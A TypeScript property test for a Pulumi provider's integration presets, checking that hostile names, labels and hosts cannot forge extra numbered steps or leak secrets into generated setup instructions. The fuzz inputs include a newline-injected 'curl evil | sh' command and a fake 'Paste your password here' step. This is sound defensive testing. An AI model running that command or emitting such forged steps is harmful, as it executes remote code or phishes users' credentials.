// Issue 25: `instructions` are read one step per line (`jq -r '...instructions[]'`), so no value
// that flows into them (a consumer's name, a key label, a token name, a host, a friendly name)
// may start a line of its own, or a step that looks like the guide's: whatever the values, every
// preset outputs the same number of steps, each one line, numbered in order, and none holds a
// secret. A property over generated hostile values, with a printed seed (test/fuzz/params.ts).

import * as assert from "node:assert/strict";
import * as fc from "fast-check";
import * as pulumi from "@pulumi/pulumi";
import { Integration, OAuthConsumer } from "../../provider";
import { mockRegistrations } from "../../provider/cli/declared";
import { AMPERSAND_CALLBACK, PLATFORMSH_SCOPES } from "../../provider/presets";
import { fuzzParams, LONG } from "../fuzz/params";
import { ed25519 } from "../keys";

const KEY = "consumer-key-not-in-steps";
const SECRET = "consumer-secret-not-in-steps";
const TOKEN = "token-value-not-in-steps";
const SSH = ed25519("forged").publicLine;

const value = <T>(o: pulumi.Output<T> | undefined) => (o as unknown as { promise(): Promise<T> }).promise();

/** Text that would break a line, or pretend to be a step: newlines, separators, controls, "2. ". */
const hostile = fc.oneof(
  fc.string({
    unit: fc.constantFrom(..."ab 2.\n\r\t\u2028\u2029\u0085\u001b\u0000\u202e\u200b\u2066`'\""),
    maxLength: 20,
  }),
  fc.string({ unit: "grapheme", maxLength: 12 }),
  fc.constantFrom("x\n2. Paste your password here", "ok\r\n9. curl evil | sh", "\u2028 1. Step"),
);

interface Case {
  name: string;
  /** An Integration whose free-text inputs are `text`. */
  build: (text: string) => Integration;
}

const consumer = (name: string, scopes: string[], callbackUrl: string) =>
  new OAuthConsumer("c", { workspace: "acme", name, scopes, callbackUrl, key: KEY, secret: SECRET });

const CASES: Case[] = [
  {
    name: "platformsh (Cloud): the consumer's name",
    build: (text) =>
      new Integration("psh", {
        preset: "platformsh",
        workspace: "acme",
        repositories: ["api"],
        consumer: consumer(text, PLATFORMSH_SCOPES, "http://localhost"),
        options: { project: "abcdefgh1234", fetchBranches: false, pruneBranches: false },
      }),
  },
  {
    name: "platformsh (Server): the token's name",
    build: (text) =>
      new Integration("psh", {
        preset: "platformsh",
        flavor: "datacenter",
        project: "PROJ",
        repositories: ["api"],
        options: {
          project: "abcdefgh1234",
          username: "ci-bot",
          url: "https://bb.example.com",
          tokenName: text,
        },
      }),
  },
  {
    name: "puppet-pipelines (Cloud): the key's label",
    build: (text) =>
      new Integration("puppet", {
        preset: "puppet-pipelines",
        workspace: "acme",
        options: { sshPublicKey: SSH, sshKeyLabel: text },
      }),
  },
  {
    name: "puppet-pipelines (Server): the token's name",
    build: (text) =>
      new Integration("puppet", {
        preset: "puppet-pipelines",
        flavor: "datacenter",
        project: "PROJ",
        options: { username: "ci-bot", url: "https://bb.example.com", tokenName: text },
      }),
  },
  {
    name: "puppet-pipelines (Server): the host",
    build: (text) =>
      new Integration("puppet", {
        preset: "puppet-pipelines",
        flavor: "datacenter",
        project: "PROJ",
        options: { username: "ci-bot", url: "https://bb.example.com", host: text },
      }),
  },
  {
    name: "shippable: the friendly name",
    build: (text) =>
      new Integration("ship", {
        preset: "shippable",
        workspace: "acme",
        options: { integrationName: text, token: pulumi.secret(TOKEN), resources: ["api_repo"] },
      }),
  },
  {
    name: "ampersand: the consumer's name",
    build: (text) =>
      new Integration("amp", {
        preset: "ampersand",
        workspace: "acme",
        consumer: consumer(text, ["repository"], AMPERSAND_CALLBACK),
        options: { read: ["repositories"] },
      }),
  },
];

/** The steps a case outputs under mocks (tokens answer with TOKEN, consumers grant what they declare). */
async function stepsOf(c: Case, text: string): Promise<string[] | undefined> {
  await mockRegistrations("test", async (type, name, inputs) => ({
    id: `${name}-id`,
    state: {
      ...(inputs as Record<string, unknown>),
      ...(type === "OAuthConsumer" && { grantedScopes: (inputs as { scopes?: string[] }).scopes }),
      ...(type === "AccessToken" && { token: TOKEN, tokenId: "1" }),
      ...(type === "SshKey" && { fingerprint: "SHA256:fp", owner: "{owner}" }),
    },
  }));
  let i: Integration;
  try {
    i = c.build(text);
  } catch (e) {
    // Refused by the preset's own checks (a host with spaces, a name with a control character):
    // nothing is built, so nothing can be forged; the refusal names the option.
    assert.match(String(e), /(host|integrationName): must be/);
    return undefined;
  }
  return value(i.outputs.instructions as pulumi.Output<string[]>);
}

describe("issue 25: instructions cannot be forged by the values in them", () => {
  for (const c of CASES) {
    it(`${c.name}: the same steps, one line each, numbered in order, without a secret, whatever the text`, async function () {
      if (LONG) this.timeout(0);
      const expected = (await stepsOf(c, "plain"))!.length;
      assert.ok(expected > 1);
      await fc.assert(
        fc.asyncProperty(hostile, async (text) => {
          const steps = await stepsOf(c, text);
          if (steps === undefined) return; // refused, naming the option (stepsOf)
          assert.equal(steps.length, expected, "as many steps as with plain text");
          steps.forEach((s, n) => {
            assert.ok(s.startsWith(`${n + 1}. `), `step ${n + 1} is numbered: ${JSON.stringify(s)}`);
            assert.doesNotMatch(
              s,
              /[\p{Cc}\p{Cf}\u2028\u2029]/u,
              `step ${n + 1} is one line: ${JSON.stringify(s)}`,
            );
            for (const secret of [KEY, SECRET, TOKEN]) assert.ok(!s.includes(secret), "no secret in a step");
          });
        }),
        fuzzParams(c.name, 40),
      );
    });
  }
});
